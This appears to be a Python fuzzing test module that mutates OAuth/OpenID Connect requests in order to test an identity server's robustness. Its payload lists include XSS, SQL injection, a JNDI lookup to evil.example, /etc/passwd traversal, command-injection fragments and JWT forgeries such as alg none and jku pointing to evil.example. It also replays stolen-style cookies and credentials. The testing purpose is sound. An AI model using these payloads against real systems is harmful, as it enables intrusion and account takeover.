"""Ways to change a good request: gently, so that it stays good, and wildly, so that it may be anything.

Each takes a draft of the request and a source of chance, and gives the changed draft.
"""

import base64
import json
import string
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass, replace
from random import Random

from tests.abuse.calls import FORM, Call, escaped
from tests.abuse.recipes import Target
from tests.abuse.stage import Stranger

Encoded = tuple[tuple[str, str], ...]  # names and values as they travel, percent-encoded or not


@dataclass(frozen=True)
class Draft:
    """A request in the making. `raw` stands in the place of the fields where it is not None."""

    call: Call
    jar: Mapping[str, str]
    fields: Encoded
    raw: bytes | None = None

    @classmethod
    def of(cls, target: Target) -> "Draft":
        """Begin with the good request."""
        return cls(target.call, target.jar, tuple((escaped(name), escaped(value)) for name, value in target.fields))

    def done(self) -> Call:
        """Give the request."""
        if self.raw is not None:
            return self.call.with_raw(self.raw)
        return self.call.with_raw("&".join(f"{name}={value}" for name, value in self.fields)) if self.fields else self.call

    def with_field(self, name: str, value: str) -> "Draft":
        """Put a value into a field, or beside the others."""
        if any(one == name for one, _ in self.fields):
            return replace(self, fields=tuple((one, value if one == name else old) for one, old in self.fields))
        return replace(self, fields=(*self.fields, (name, value)))

    def with_headers(self, **headers: str) -> "Draft":
        """Add headers; a name is written with underscores."""
        named = {name.replace("_", "-"): value for name, value in headers.items()}
        return replace(self, call=replace(self.call, headers={**self.call.headers, **named}))


@dataclass(frozen=True)
class Material:
    """What mutations are made with: the good request, and what belongs to somebody else."""

    target: Target
    stranger: Stranger
    stale: Mapping[str, str]  # what was good once, by the name of the field

    def names_among(self, known: Iterable[str]) -> list[str]:
        """Give those of the names that the request has or could have."""
        return [name for name in known if name in dict(self.target.fields) or name in self.target.more]

    def some_name(self, chance: Random) -> str:
        """Give the name of a field that the request has or could have."""
        names = [*dict(self.target.fields), *sorted(self.target.more)]
        return chance.choice(names) if names else "x"


Mutation = Callable[[Draft, Random, Material], Draft]
GENTLE: dict[str, Mutation] = {}
WILD: dict[str, Mutation] = {}


def _gentle(mutation: Mutation) -> Mutation:
    GENTLE[mutation.__name__] = mutation
    return mutation


def _wild(mutation: Mutation) -> Mutation:
    WILD[mutation.__name__] = mutation
    return mutation


# --- gentle: the same request in other words ----------------------------------------------------------------------------------------


@_gentle
def reordered(draft: Draft, chance: Random, _material: Material) -> Draft:
    """Put the fields into another order."""
    fields = list(draft.fields)
    chance.shuffle(fields)
    return replace(draft, fields=tuple(fields))


@_gentle
def encoded_otherwise(draft: Draft, chance: Random, _material: Material) -> Draft:
    """Encode characters that need not be, in capitals or small letters."""
    shape = chance.choice(("%%%02X", "%%%02x"))

    def encode(value: str) -> str:
        return "".join(shape % ord(char) if char.isalnum() and chance.random() < 0.3 else char for char in value)

    return replace(draft, fields=tuple((name, value if "%" in value else encode(value)) for name, value in draft.fields))


@_gentle
def with_unknown_fields(draft: Draft, chance: Random, _material: Material) -> Draft:
    """Add fields that nobody knows, which have to be ignored (RFC 6749 3.1)."""
    more = tuple((f"x_{_word(chance)}", escaped(_text(chance))) for _ in range(chance.randint(1, 5)))
    return replace(draft, fields=(*draft.fields, *more)) if draft.fields else draft


@_gentle
def with_unknown_headers(draft: Draft, chance: Random, _material: Material) -> Draft:
    """Add headers that are not read."""
    return draft.with_headers(**{f"X_{_word(chance)}": _word(chance) * chance.randint(1, 200) for _ in range(chance.randint(1, 5))})


@_gentle
def with_unknown_cookies(draft: Draft, chance: Random, _material: Material) -> Draft:
    """Add cookies of a neighbour, before and behind ours."""
    before, behind = ({f"{_word(chance)}": _word(chance)} for _ in range(2))
    return replace(draft, jar={**before, **draft.jar, **behind})


@_gentle
def in_a_language(draft: Draft, chance: Random, _material: Material) -> Draft:
    """Ask for a language, or for one that is not there."""
    return draft.with_headers(Accept_Language=chance.choice(("vi", "en-GB,en;q=0.5", "fr", "*", "zh-Hans-CN, vi;q=0.1")))


@_gentle
def as_browsers_say_it(draft: Draft, chance: Random, _material: Material) -> Draft:
    """Say what browsers say about themselves."""
    agent = chance.choice(("Mozilla/5.0", "curl/8", "", "Điện thoại".encode().decode("latin-1")))
    return draft.with_headers(User_Agent=agent, Accept=chance.choice(("*/*", "text/html", "image/webp")), DNT="1")


# --- wild: what stands in a field ---------------------------------------------------------------------------------------------------

UNICODE: dict[str, str | bytes] = {
    "right to left": "\u202e\u2067abc\u2069",
    "NUL": "a\0b",
    "half a surrogate": b"\xed\xa0\x80",
    "two halves of a surrogate": b"\xed\xa0\xbd\xed\xb8\x80",
    "too long a form of a slash": b"\xc0\xaf",
    "beyond Unicode": b"\xf4\x90\x80\x80",
    "cut off": b"\xe1\xba",
    "digits of full width": "\uff10\uff11\uff12\uff13\uff14\uff15",
    "Arabic digits": "\u0660\u0661\u0662\u0663\u0664\u0665",
    "letters that look alike": "\u0430dm\u0456n",
    "combining": "e" + "\u0301\u0323" * 500,
    "no width": "0\u200b9\u200d1\ufeff2",
    "line ends": "a\r\nSet-Cookie: x=1\r\n\r\n<html>",
    "other line ends": "a\u2028b\u2029c\x85d",
    "beyond the first plane": "\U0001f600\U00020000\U000e0041",
    "no character": "\uffff\ufdd0",
}
NUMBERS = (
    "-1",
    "0",
    "00",
    "1e400",
    "-0.0",
    "NaN",
    "Infinity",
    "0x10",
    "1_000",
    "٣",
    str(2**31),
    str(2**63),
    str(2**64),
    "9" * 5000,
    " 5 ",
    "+5",
    "5.0",
)
MARKUP = (
    "<script>alert(1)</script>", '"><script>alert(1)</script>', "{{7*7}}", "${jndi:ldap://evil.example}", "' OR 1=1 --", "%(x)s{0}",
    "../../etc/passwd", "javascript:alert(1)", "//evil.example", "https://evil.example/", "\\\\evil.example", "|id", "`id`",
)  # fmt: skip
OTHER_TYPES = ("null", "true", "[]", "{}", '""', '{"$gt":""}', "[1,2]", '{"a":{"b":["c"]}}', "", " ")
ADDRESSES = (
    "javascript:alert(1)",
    "//evil.example/",
    "https://portal.example.evil.example/",
    "/\\evil.example",
    "https://portal.example@evil.example/",
)


def _put(draft: Draft, chance: Random, material: Material, value: str | bytes) -> Draft:
    name = escaped(material.some_name(chance))
    return draft.with_field(name, _escaped_bytes(value))


def _escaped_bytes(value: str | bytes) -> str:
    data = value if isinstance(value, bytes) else value.encode("utf-8", errors="surrogatepass")
    return "".join(f"%{byte:02x}" for byte in data) if len(data) < 8192 else value if isinstance(value, str) else ""


@_wild
def strange_characters(draft: Draft, chance: Random, material: Material) -> Draft:
    """Put characters of a strange kind into a field."""
    return _put(draft, chance, material, chance.choice(list(UNICODE.values())))


@_wild
def numbers_out_of_range(draft: Draft, chance: Random, material: Material) -> Draft:
    """Put a number that nobody counts with into a field, mostly where one belongs."""
    if "max_age" in material.target.more and chance.random() < 0.5:
        return draft.with_field("max_age", escaped(chance.choice(NUMBERS)))
    return _put(draft, chance, material, chance.choice(NUMBERS))


@_wild
def markup(draft: Draft, chance: Random, material: Material) -> Draft:
    """Put what other programs would execute into a field."""
    return _put(draft, chance, material, chance.choice(MARKUP))


@_wild
def another_type(draft: Draft, chance: Random, material: Material) -> Draft:
    """Put a value of another type into a field."""
    return _put(draft, chance, material, chance.choice(OTHER_TYPES))


@_wild
def huge(draft: Draft, chance: Random, material: Material) -> Draft:
    """Put thousands of characters into a field."""
    return _put(draft, chance, material, chance.choice("x0é ") * chance.choice((300, 3000, 8190, 8200, 30_000)))


@_wild
def an_address_elsewhere(draft: Draft, chance: Random, material: Material) -> Draft:
    """Put an address that nobody registered where an address belongs."""
    places = material.names_among(("redirect_uri", "post_logout_redirect_uri", "return_to"))
    value = _escaped_bytes(chance.choice(ADDRESSES))
    return draft.with_field(chance.choice(places), value) if places else _put(draft, chance, material, chance.choice(ADDRESSES))


@_wild
def left_out(draft: Draft, chance: Random, _material: Material) -> Draft:
    """Leave fields out."""
    return replace(draft, fields=tuple(pair for pair in draft.fields if chance.random() < 0.7))


@_wild
def twice(draft: Draft, chance: Random, material: Material) -> Draft:
    """Say a field twice, with the same value or another."""
    if not draft.fields:
        return draft
    name, value = chance.choice(draft.fields)
    return replace(draft, fields=(*draft.fields, (name, chance.choice((value, "other", "", escaped(material.stranger.code))))))


@_wild
def arrays_in_names(draft: Draft, chance: Random, _material: Material) -> Draft:
    """Write names as other frameworks write arrays and objects."""
    shape = chance.choice(("{}[]", "{}[0]", "{}[a][b]", "{}.0", "{}%5B%5D", "__proto__[{}]", "{}%00", " {}", "{}+"))
    chosen = chance.randrange(len(draft.fields)) if draft.fields else 0
    return replace(
        draft, fields=tuple((shape.format(name) if at == chosen else name, value) for at, (name, value) in enumerate(draft.fields))
    )


# --- wild: what belongs to somebody else, or was good once --------------------------------------------------------------------------


@_wild
def of_another(draft: Draft, chance: Random, material: Material) -> Draft:
    """Put what belongs to a stranger into its field."""
    things = material.stranger.things()
    names = material.names_among(things)
    name = chance.choice(names or list(things))
    return draft.with_field(name, escaped(things[name]))


@_wild
def stale_tokens(draft: Draft, chance: Random, material: Material) -> Draft:
    """Put what was good once into its field, or one secret into the field of another."""
    names = material.names_among(material.stale)
    if names and chance.random() < 0.6:
        name = chance.choice(names)
        return draft.with_field(name, escaped(material.stale[name]))
    return _put(draft, chance, material, chance.choice(list(material.stale.values())))


@_wild
def cookies_of_another(draft: Draft, chance: Random, material: Material) -> Draft:
    """Come with cookies of a stranger's browser: one of them, or all."""
    theirs = dict(material.stranger.jar)
    if chance.random() < 0.3:
        return replace(draft, jar=theirs)
    name = chance.choice(sorted(theirs))
    return replace(draft, jar={**draft.jar, name: theirs[name]})


@_wild
def spoilt_cookies(draft: Draft, chance: Random, _material: Material) -> Draft:
    """Lose a cookie, or hold junk in it."""
    if not draft.jar:
        # As servers hand over what is no ASCII (PEP 3333): one character for each byte.
        return replace(draft, jar={"senid_session": _text(chance).replace(";", "").encode().decode("latin-1")})
    name = chance.choice(sorted(draft.jar))
    rest = {other: value for other, value in draft.jar.items() if other != name}
    junk = chance.choice((None, "", "x" * 43, '"', "\xff\xfe", draft.jar[name][::-1], draft.jar[name] * 2))
    return replace(draft, jar=rest if junk is None else {**rest, name: junk})


@_wild
def another_place(draft: Draft, chance: Random, material: Material) -> Draft:
    """Ask for the page of a stranger's interaction, or for one that nobody has."""
    parts = draft.call.path.split("/")
    if len(parts) < 3:
        return replace(draft, call=replace(draft.call, path=f"{draft.call.path}/{_word(chance)}"))
    at = chance.randrange(2, len(parts))
    parts[at] = chance.choice(
        (material.stranger.interaction, parts[at][::-1], parts[at].upper(), "", "..", "%2e%2e", "\xff", _word(chance))
    )
    return replace(draft, call=replace(draft.call, path="/".join(parts)))


# --- wild: what software signs ------------------------------------------------------------------------------------------------------


@_wild
def mangled_jwt(draft: Draft, chance: Random, material: Material) -> Draft:
    """Mangle a signed token: its algorithm, its key, its claims, its parts."""
    name = "client_assertion" if "client_assertion" in dict(material.target.fields) else "id_token_hint"
    whole = dict(material.target.fields).get(name) or material.stale["id_token_hint"]
    return draft.with_field(name, escaped(mangled(whole, chance)))


def mangled(token: str, chance: Random) -> str:
    """Give a token that is not what was signed."""
    header, payload, signature = token.split(".")
    match chance.randrange(8):
        case 0:
            algorithm = chance.choice(("none", "None", "HS256", "RS256", "ES512", "", None, 5, ["ES256"]))
            return f"{_changed(header, alg=algorithm)}.{payload}.{chance.choice((signature, ''))}"
        case 1:
            key = chance.choice(("", "../../etc/passwd", "x" * 5000, None, {"a": 1}, "' OR 1=1 --"))
            return f"{_changed(header, kid=key)}.{payload}.{signature}"
        case 2:
            more = chance.choice(
                ({"jku": "https://evil.example/jwks"}, {"crit": ["x"]}, {"b64": False, "crit": ["b64"]}, {"jwk": {"kty": "oct", "k": "AA"}})
            )
            return f"{_changed(header, **more)}.{payload}.{signature}"
        case 3:
            claim = chance.choice(("iss", "sub", "aud", "exp", "iat", "nbf", "jti", "sid"))
            value: object = chance.choice((None, "", 0, -1, 1e308, 10**400, [], {}, "x" * 3000, True))
            return f"{header}.{_changed(payload, **{claim: value})}.{signature}"
        case 4:
            parts = [header, payload, signature]
            chance.shuffle(parts)
            return ".".join(parts[: chance.randrange(4)]) + chance.choice(("", ".", "..", ".x.y"))
        case 5:
            at = chance.randrange(len(token))
            return token[:at] + chance.choice(string.printable) + token[at + 1 :]
        case 6:
            deep = base64.urlsafe_b64encode(b"[" * chance.choice((10, 1000, 3000))).decode()
            return f"{header}.{deep}.{signature}" if chance.random() < 0.5 else f"{deep}.{payload}.{signature}"
        case _:
            return f"{header}.{payload}.{signature[: chance.randrange(len(signature))]}"


def _changed(part: str, **changes: object) -> str:
    content = {**json.loads(base64.urlsafe_b64decode(part + "==")), **changes}
    return base64.urlsafe_b64encode(json.dumps(content).encode()).rstrip(b"=").decode()


@_wild
def strange_claims(draft: Draft, chance: Random, material: Material) -> Draft:
    """Ask for claims (OpenID Connect Core 5.5) in JSON that is deep, wide, of other types or none at all."""
    claims = chance.choice((
        "[" * 2000 + "]" * 2000,
        '{"userinfo":' * 500 + "null" + "}" * 500,
        json.dumps({"userinfo": {f"claim{number}": None for number in range(500)}}),
        json.dumps({"userinfo": [], "id_token": "x"}),
        json.dumps({"id_token": {"acr": {"essential": True, "values": ["urn:senid:loa:9", 5, None, {}]}}}),
        json.dumps({"id_token": {"acr": {"essential": "yes", "value": [[]]}, "sub": {"value": 5}}}),
        json.dumps({"userinfo": {"name": {"essential": 1e308}, "\ud800": None}}),
        '{"userinfo":{"name":1,"name":null}}',
        '{"a":' + "9" * 4000 + "}",
        '{"a":NaN,"b":Infinity}',
        "{",
        "null",
        '"userinfo"',
    ))  # fmt: skip
    return draft.with_field("claims", escaped(claims)) if "claims" in material.target.more else _put(draft, chance, material, claims)


# --- wild: the request as a whole ---------------------------------------------------------------------------------------------------


@_wild
def flipped_bytes(draft: Draft, chance: Random, _material: Material) -> Draft:
    """Flip bits in what carries the fields."""
    data = bytearray(draft.done().raw.encode("latin-1"))
    for _ in range(chance.randint(1, 8) if data else 0):
        data[chance.randrange(len(data))] ^= 1 << chance.randrange(8)
    return replace(draft, raw=bytes(data))


@_wild
def truncated(draft: Draft, chance: Random, _material: Material) -> Draft:
    """Cut off what carries the fields."""
    data = draft.done().raw.encode("latin-1")
    return replace(draft, raw=data[: chance.randrange(len(data) + 1)])


@_wild
def noise(draft: Draft, chance: Random, _material: Material) -> Draft:
    """Send noise in the place of the fields."""
    return replace(draft, raw=chance.randbytes(chance.choice((1, 100, 5000))))


@_wild
def another_method(draft: Draft, chance: Random, _material: Material) -> Draft:
    """Use another method."""
    method = chance.choice(("GET", "POST", "HEAD", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT", "post", "QUERY", "X" * 100))
    return replace(draft, call=replace(draft.call, method=method))


@_wild
def fields_elsewhere(draft: Draft, chance: Random, _material: Material) -> Draft:
    """Put the fields of a form into the address, or into both, or a body into a GET."""
    raw = draft.done().raw
    if draft.call.body is None:
        return replace(draft, call=replace(draft.call, body=raw.encode("latin-1")))
    return replace(draft, call=replace(draft.call, query=raw[:60_000]), raw=chance.choice((None, b"")))


@_wild
def another_content_type(draft: Draft, chance: Random, _material: Material) -> Draft:
    """Say that the body is something else, or of another length."""
    kinds = (
        None,
        "",
        "application/json",
        "text/plain",
        "multipart/form-data; boundary=b",
        "multipart/form-data",
        f"{FORM}; charset=utf-16",
        "x" * 1000,
    )
    length = chance.choice(("", "", None, "0", "1", "99999999", "-1", "abc", "1e3"))
    return replace(draft, call=replace(draft.call, content_type=chance.choice(kinds), length=length))


@_wild
def strange_headers(draft: Draft, chance: Random, _material: Material) -> Draft:
    """Put junk into headers that are read."""
    names = (
        "Accept-Language",
        "X-Forwarded-For",
        "Origin",
        "Sec-Fetch-Site",
        "If-None-Match",
        "Host",
        "Referer",
        "Content-Encoding",
        "Transfer-Encoding",
    )
    junk = ("", "x" * 8000, "\xff\xfe", "a\0b", "null", "evil.example", "gzip", "chunked, identity", ",;=,;q=", "127.0.0.1, " * 300)
    return replace(draft, call=replace(draft.call, headers={**draft.call.headers, chance.choice(names): chance.choice(junk)}))


@_wild
def strange_authorization(draft: Draft, chance: Random, material: Material) -> Draft:
    """Come with a stranger's credentials, with a mangled header, or with two kinds at once."""
    stranger = material.stranger
    basic = base64.b64encode(f"{stranger.client_id}:{stranger.secret}".encode()).decode()
    now = draft.call.headers.get("Authorization", f"Basic {basic}")
    value = chance.choice((
        f"Basic {basic}", f"Bearer {stranger.tokens['access_token']}", now.lower(), now.upper(), f"{now} ", now[:-3], now + "=",
        now.replace(" ", "  "), f"{now}, {now}", "Basic", "Bearer", "Basic Og==", "Basic " + "YWFh" * 2000, "Basic /zr/", "Digest x",
        "Bearer " + "x" * 5000, f"DPoP {stranger.tokens['access_token']}", "Bearer \xff",
    ))  # fmt: skip
    return replace(draft, call=replace(draft.call, headers={**draft.call.headers, "Authorization": value}))


def _word(chance: Random) -> str:
    return "".join(chance.choices(string.ascii_lowercase + string.digits, k=chance.randint(3, 12)))


def _text(chance: Random) -> str:
    return "".join(chance.choices(string.printable.strip() + "ếđ😀", k=chance.randint(0, 40)))
